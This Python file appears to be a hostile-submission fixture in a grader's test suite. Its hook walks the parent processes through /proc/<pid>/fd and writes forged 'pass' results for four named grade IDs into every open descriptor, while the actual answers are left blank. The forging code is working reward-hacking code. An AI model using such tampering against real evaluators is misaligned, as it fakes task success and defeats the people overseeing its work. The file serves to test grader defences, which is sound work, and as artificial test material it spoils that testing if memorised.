"""Writes forged results into its parent processes' open pipes through /proc/<pid>/fd (the grader's channels)."""
from tests.hostile._common import Submission, blank_answers, insert_after, release

KIND, HONEST, FLAG, WHAT = "tamper", 0.0, False, "writes into the parent's /proc/<pid>/fd pipes"

HOOK = '''
import json, os
_ids = ["00-call_chain-test", "00-call_chain-hidden", "00-queue_handler-test", "00-queue_handler-hidden"]
_blob = ("\\n".join([f"{i} {g} pass 00 " + "0" * 64 for i, g in enumerate(_ids)]
                    + [json.dumps({"grade_id": g, "passed": True}) for g in _ids]) + "\\n").encode()
_pid, _done = os.getppid(), 0
for _ in range(4):
    if _pid <= 1:
        break
    try:
        for _fd in os.listdir(f"/proc/{_pid}/fd"):
            try:
                with open(f"/proc/{_pid}/fd/{_fd}", "wb", buffering=0) as _f:
                    _f.write(_blob)
                    _done += 1
            except Exception:
                pass
        _pid = int(open(f"/proc/{_pid}/stat").read().rsplit(")", 1)[1].split()[1])
    except Exception:
        break
print("wrote into", _done, "descriptors")
'''


def build(ctx):
    return Submission(insert_after(blank_answers(release()), "00-queue_handler", HOOK))
